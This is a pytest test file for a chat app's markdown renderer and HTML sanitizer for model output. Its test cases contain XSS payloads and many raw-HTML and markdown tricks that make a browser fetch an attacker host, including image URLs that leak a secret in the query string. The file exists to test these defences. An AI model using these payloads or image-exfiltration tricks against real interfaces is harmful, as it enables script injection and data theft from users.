"""Model output is rendered on the server, highlighted, and cleaned of anything executable."""

import html as html_lib
import random
import re
from urllib.parse import parse_qs

import pytest

from chat import markdown
from chat.image_policy import ImagePolicy
from chat.markdown import StreamingMarkdown, render_markdown, sanitize

SAMPLE = """# Plan

Some *text* with `code` and a [link](https://example.com).

1. first
2. second

```python
def hello():
    return "world"
```

| a | b |
|---|:-:|
| 1 | 2 |

> quoted

- tail item
"""


def test_markdown_features_render():
    html = render_markdown(SAMPLE)
    assert "<h1>Plan</h1>" in html
    assert "<ol>" in html and "<table>" in html and "<blockquote>" in html
    assert 'class="language-python"' in html and 'class="hl-k"' in html  # highlighted keyword
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "<a href='javascript:alert(1)'>x</a>",
        '<iframe src="https://evil.example"></iframe>',
        "![x](javascript:alert(1))",
    ],
)
def test_untrusted_output_cannot_run_code(attack):
    html = render_markdown(attack)
    assert "<script" not in html
    assert "<iframe" not in html
    assert "onerror=" not in html.replace("onerror=alert(1)&gt;", "")  # escaped text is fine
    assert 'href="javascript' not in html and 'src="javascript' not in html


def test_streaming_render_matches_whole_render_for_any_split():
    rng = random.Random(7)
    for _ in range(30):
        stream = StreamingMarkdown()
        position = 0
        while position < len(SAMPLE):
            step = rng.randint(1, 12)
            stream.append(SAMPLE[position : position + step])
            position += step
            if rng.random() < 0.5:
                stream.flush()
        stream.flush()
        assert "".join(stream.blocks) + stream.tail_html == render_markdown(SAMPLE)


def test_streaming_hands_out_each_finished_block_once():
    stream = StreamingMarkdown()
    stream.append("First paragraph.\n\nSecond")
    new, tail = stream.flush()
    assert new == ["<p>First paragraph.</p>\n"]
    assert tail == "<p>Second</p>\n"
    stream.append(" paragraph grows.")
    new, tail = stream.flush()
    assert new == []
    assert tail == "<p>Second paragraph grows.</p>\n"


def test_an_open_code_fence_streams_as_code():
    stream = StreamingMarkdown()
    stream.append("```python\nx = 1\n")
    _, tail = stream.flush()
    assert "<pre" in tail and "x" in tail


def test_an_open_code_block_is_highlighted_once_it_is_closed():
    stream = StreamingMarkdown()
    stream.append("Intro.\n\n```python\ndef f():\n    return 1\n")
    _, tail = stream.flush()
    assert 'class="language-python"' in tail and "hl-" not in tail  # plain while open
    assert "def f():" in tail
    stream.append("```")
    _, tail = stream.flush()
    assert 'class="hl-k"' in tail  # closed: highlighted, though still the last block
    stream.append("\n\nAfter.")
    new, tail = stream.flush()
    assert new == [render_markdown("```python\ndef f():\n    return 1\n```\n\n")]
    assert tail == "<p>After.</p>\n"


def test_a_fence_closed_with_a_longer_or_other_marker():
    for text, closed in [
        ("~~~python\nx = 1\n~~~~", True),
        ("```python\nx = 1\n  ```  ", True),
        ("````python\nx = 1\n```", False),  # shorter than the opening: still open
        ("```python\nx = 1\n~~~", False),  # another character: still open
        ("```python\nx = 1", False),
    ]:
        stream = StreamingMarkdown()
        stream.append(text)
        _, tail = stream.flush()
        if closed:
            assert tail == render_markdown(text) and "hl-" in tail, text
        else:
            assert "hl-" not in tail and "x = 1" in tail and "<pre>" in tail, text


def test_one_line_of_prose_streams_exactly_as_the_parser_renders_it():
    rng = random.Random(11)
    alphabet = "abcXYZéß中 0123456789,.;:?!'\"()/%+=$@#-_*`~[]<>&|\\\t\u00a0" + " " * 6
    checked = 0
    for _ in range(20_000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 24)))
        text = "\n" * rng.randint(0, 2) + text + "\n" * rng.randint(0, 1)
        stream = StreamingMarkdown()
        stream.append(text)
        _, tail = stream.flush()
        assert tail == render_markdown(text), text
        checked += 1
    assert checked == 20_000


def test_a_flush_with_nothing_new_parses_nothing(monkeypatch):
    stream = StreamingMarkdown()
    stream.append("# Title\n\n- a\n- b")
    first = stream.flush()
    monkeypatch.setattr(markdown._PARSER, "parse", lambda *a, **k: pytest.fail("parsed again"))
    assert stream.flush() == ([], first[1])


NO_HOSTS = ImagePolicy(frozenset())


class _AlwaysParsed(StreamingMarkdown):
    def appended(self, text):
        return None


# Pieces of text a model streams: words in several scripts, every character markdown acts on,
# line and block starts, fences, tables, links, entities, math, reference definitions.
_PIECES = [
    *["foo", "Bar", "x1", "1", "12", "中文", "é", "ok."] * 4,
    *[" ", " ", "  ", "\n", "\n", "\n\n", "\t", "\u00a0", "\r\n", "\r"],
    *["*", "**", "_", "__", "`", "``", "~~", "~", "\\", "&", "&amp;", "&#35", ";", ":", "#"],
    *["[", "]", "(", ")", "[a](b)", "![i](x.png)", "<", ">", "<http://x.co>", "!", "|", "$"],
    *["$$", "\\(", '"', "'", ".", ",", "=", "-", "+", "%", "@", "{", "^", "?"],
    *["## ", "- ", "1. ", "2) ", "> ", "    ", "---", "===", "[ref]: /u", "| a | b |\n| - | - |\n"],
    *["```", "```python\n", "~~~\n", "\n```\n", "$$\n"],
]


def test_text_appended_without_parsing_renders_exactly_as_a_full_parse():
    rng = random.Random(20)
    appended = 0
    for _ in range(800):
        fast, parsed = StreamingMarkdown(NO_HOSTS), _AlwaysParsed(NO_HOSTS)
        for _ in range(rng.randint(1, 40)):
            piece = "".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 3)))
            fast.append(piece)
            parsed.append(piece)
            text = fast.take()
            quick = fast.appended(text)
            appended += quick is not None
            got = fast.commit(quick or markdown.render_tail(text, NO_HOSTS))
            assert got == parsed.flush(), repr(parsed._tail)
            assert fast.blocks == parsed.blocks
    assert appended > 1_000  # the comparison covers many appends, not only parses


@pytest.mark.parametrize(
    ("start", "more"),
    [
        ("Intro.\n\nSome **bold** and `code`, then words", " and more words, 中文."),
        ("- first\n- second *item* with", " more words"),
        ("| a | b |\n| - | - |\n| one | two", " three"),
        ("```python\nprint(x", ' * 2, "<b>&")  # not markup in code'),
        ("```python\nprint(x", "\n\n    y = [1]\nz"),
    ],
)
def test_words_added_to_an_open_block_are_not_parsed_again(monkeypatch, start, more):
    stream = StreamingMarkdown()
    stream.append(start)
    stream.flush()
    monkeypatch.setattr(markdown._PARSER, "parse", lambda *a, **k: pytest.fail("parsed again"))
    stream.append(more)
    _, tail = stream.flush()
    monkeypatch.undo()
    assert tail == _AlwaysParsed().commit(markdown.render_tail(stream._tail))[1]
    assert more.split()[0].replace("<", "&lt;").replace("&", "&amp;")[:3] in tail


# -- remote images (issue 11, finding 3) -------------------------------------------------------

ALLOWED = ImagePolicy(frozenset({"img.example.com", "*.cdn.example.org", "pics.example.net:8443"}))
TAG = re.compile(r"<([a-z0-9]+)([^>]*)>")
# An image the browser would fetch from anywhere but the allowed host (or x.png, relative).
REMOTE_SRC = re.compile(r'<img[^>]*\bsrc="(?!https://img\.example\.com/|x\.png")')


def test_a_remote_image_becomes_a_load_link_that_names_its_host():
    html = render_markdown("Look: ![the chart](https://attacker.example/c.png?q=SECRET)", ALLOWED)
    assert "<img" not in html
    link = re.search(r'<a class="remote-image" href="([^"]*)" title="([^"]*)">([^<]*)</a>', html)
    assert link is not None, html
    href, title, text = (html_lib.unescape(part) for part in link.groups())
    assert text == "Load image from attacker.example: the chart"
    assert title == "https://attacker.example/c.png?q=SECRET"  # the reader sees what it sends
    assert href.startswith("/image/?")
    assert parse_qs(href.split("?", 1)[1]) == {
        "src": ["https://attacker.example/c.png?q=SECRET"],
        "alt": ["the chart"],
    }


def test_images_from_allowed_hosts_relative_and_data_images_load_directly():
    cases = {
        "![a](https://img.example.com/a.png)": "https://img.example.com/a.png",
        "![a](http://img.example.com/a.png)": "http://img.example.com/a.png",
        "![a](https://eu.cdn.example.org/a.png)": "https://eu.cdn.example.org/a.png",
        "![a](https://pics.example.net:8443/a.png)": "https://pics.example.net:8443/a.png",
        "![a](/static/favicon.svg)": "/static/favicon.svg",
        "![a](uploads/a.png)": "uploads/a.png",
        "![a](data:image/png;base64,iVBORw0KGgo=)": "data:image/png;base64,iVBORw0KGgo=",
    }
    for text, src in cases.items():
        html = render_markdown(text, ALLOWED)
        assert f'<img src="{src}" alt="a">' in html, (text, html)
        assert "remote-image" not in html


def test_allowed_hosts_match_like_a_csp_host_source():
    for text, host in [
        ("![a](https://cdn.example.org/a.png)", "cdn.example.org"),  # *. is subdomains only
        ("![a](https://img.example.com:8443/a.png)", "img.example.com:8443"),  # other port
        ("![a](https://pics.example.net/a.png)", "pics.example.net"),  # listed with a port
        ("![a](https://img.example.com.evil.example/a.png)", "img.example.com.evil.example"),
        ("![a](https://evil.example/img.example.com/a.png)", "evil.example"),
        ("![a](https://img.example.com@evil.example/a.png)", "evil.example"),
    ]:
        html = render_markdown(text, ALLOWED)
        assert "<img" not in html, text
        assert f"Load image from {host}: a" in html, (text, html)


@pytest.mark.parametrize(
    "text",
    [
        "![x](//evil.example/a.png)",  # scheme-relative
        "![x](HTTPS://EVIL.EXAMPLE/a.png)",
        "![x](https://img.example.com\\@evil.example/a.png)",
        "![x](https:\\\\evil.example/a.png)",
        "![x](<https://evil.example/a b.png>)",
        "![x](https://evil.example/a.png 'title')",
        "[![x](https://evil.example/a.png)](https://img.example.com/)",
        "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
        '<img src="https://evil.example/a.png">',  # raw HTML is text in markdown
        "<picture><source srcset='https://evil.example/a.png'></picture>",
        "<link rel=prefetch href='https://evil.example/'>",
        "<p style='background:url(https://evil.example/a.png)'>x</p>",
        "![x][ref]\n\n[ref]: https://evil.example/a.png",
        "![x](https://evil.example/a.png)\n![y](https://img.example.com/ok.png)",
    ],
)
def test_no_markdown_makes_the_browser_fetch_another_host(text):
    html = render_markdown(text, ALLOWED)
    assert not REMOTE_SRC.search(html), html
    for name, attributes in TAG.findall(html):  # real tags: "<" in text is escaped
        # div: a table's scroll box (chat/markdown.py).
        assert name in {"p", "a", "img", "div", "table", "thead", "tbody", "tr", "th", "td"}, html
        assert not re.search(r"\b(?:style|srcset)=", attributes), html


@pytest.mark.parametrize(
    "raw",
    [
        '<img src="https://evil.example/a.png">',
        '<img src="//evil.example/a.png">',
        '<img src="/\\evil.example/a.png">',
        '<img src="&#x2F;&#x2F;evil.example/a.png">',
        '<img src="\t//evil.example/a.png">',
        '<img src=" https://evil.example/a.png">',
        '<img src="https:evil.example/a.png">',
        '<img src="/&#9;/evil.example/a.png">',
        '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">',
        '<img srcset="https://evil.example/b.png 2x">',
        '<picture><source srcset="https://evil.example/a.png"><img src="x.png"></picture>',
        '<video poster="https://evil.example/a.png"></video>',
        '<input type="image" src="https://evil.example/a.png">',
        '<svg><image href="https://evil.example/a.png"></image></svg>',
        '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
        '<td style="background-image:url(https://evil.example/a.png)">x</td>',
        '<div style="background:url(//evil.example/a.png)">x</div>',
        "<style>p{background:url(https://evil.example/a.png)}</style>",
        '<link rel="prefetch" href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
        '<object data="https://evil.example/a.svg"></object>',
        '<embed src="https://evil.example/a.svg">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<img src="x.png" data-src="https://evil.example/a.png">',
    ],
)
def test_the_sanitizer_lets_no_remote_fetch_through_raw_html(raw):
    html = sanitize(raw, ALLOWED)
    assert not REMOTE_SRC.search(html), html
    for forbidden in (
        "srcset",
        "<source",
        "<picture",
        "<video",
        "<input",
        "<svg",
        "<image",
        "background",
        "style",
        "<link",
        "ping=",
        "<object",
        "<embed",
        "<meta",
        "<base",
        "data-src",
    ):
        assert forbidden not in html, (forbidden, html)


def test_data_urls_load_only_as_images():
    for text in [
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
        '<img src="DATA:text/html,x">',
    ]:
        assert "<img" not in sanitize(text, ALLOWED), text
    for text in ['<a href="data:text/html,x">x</a>', '<a href=" DATA:image/png;base64,AAA">x</a>']:
        html = sanitize(text, ALLOWED)
        assert "href" not in html and ">x</a>" in html, html
    code = render_markdown('`<a href="data:text/html,x">`', ALLOWED)  # text stays as written
    assert code == '<p><code>&lt;a href="data:text/html,x"&gt;</code></p>\n'
    assert sanitize('<img src="data:image/gif;base64,R0lGOD==" alt="dot">', ALLOWED) == (
        '<img src="data:image/gif;base64,R0lGOD==" alt="dot">'
    )


def test_an_image_that_cannot_load_anywhere_keeps_its_alt_text():
    assert sanitize('<img src="javascript:alert(1)" alt="a &lt;b&gt;">', ALLOWED) == "a &lt;b&gt;"
    assert sanitize('<img src="https://[::1]/a.png" alt="v6">', ALLOWED) == "v6"
    assert sanitize('<img src="https://ev%69l.example/a.png" alt="p">', ALLOWED) == "p"


def test_a_streamed_answer_never_shows_a_remote_image_and_ends_like_the_whole_render():
    text = (
        "Intro with ![inline](https://attacker.example/i.png?q=1) text.\n\n"
        "```python\nx = 1\n```\n\n"
        "![allowed](https://img.example.com/ok.png)\n\n"
        "| a | b |\n|:-|-:|\n| ![c](https://attacker.example/c.png) | 2 |\n\n"
        "Last line with ![end](https://attacker.example/end.png)"
    )
    rng = random.Random(3)
    for _ in range(20):
        stream = StreamingMarkdown(ALLOWED)
        position = 0
        while position < len(text):
            step = rng.randint(1, 9)
            stream.append(text[position : position + step])
            position += step
            new, tail = stream.flush()
            for html in [*new, tail]:
                assert not REMOTE_SRC.search(html), html
        assert "".join(stream.blocks) + stream.tail_html == render_markdown(text, ALLOWED)
    whole = render_markdown(text, ALLOWED)
    assert whole.count("Load image from attacker.example") == 3
    assert '<img src="https://img.example.com/ok.png" alt="allowed">' in whole


def test_table_alignment_is_a_class_not_a_style_attribute():
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert "style" not in html
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-center">2</td>' in html
    assert '<td class="align-right">3</td>' in html


def test_a_table_scrolls_inside_a_focusable_box_streamed_or_whole():
    text = "| " + " | ".join(f"c{n}" for n in range(12)) + " |\n|" + "---|" * 12 + "\n"
    html = render_markdown(text)
    assert html.startswith('<div class="table-scroll" tabindex="0"><table>')
    assert html.rstrip().endswith("</table>\n</div>")
    stream = StreamingMarkdown()
    stream.append(text + "\nafter")
    blocks, tail = stream.flush()
    assert "".join(blocks) + tail == render_markdown(text + "\nafter")


def test_only_the_table_box_may_take_focus():
    # The sanitizer lets tabindex="0" through on a div and nothing else, whatever the source.
    assert sanitize('<div class="x" tabindex="-1">a</div>') == '<div class="x">a</div>'
    assert sanitize('<p tabindex="0">a</p>') == "<p>a</p>"
    assert "<div" not in render_markdown('<div tabindex="0">raw</div>')  # escaped as text
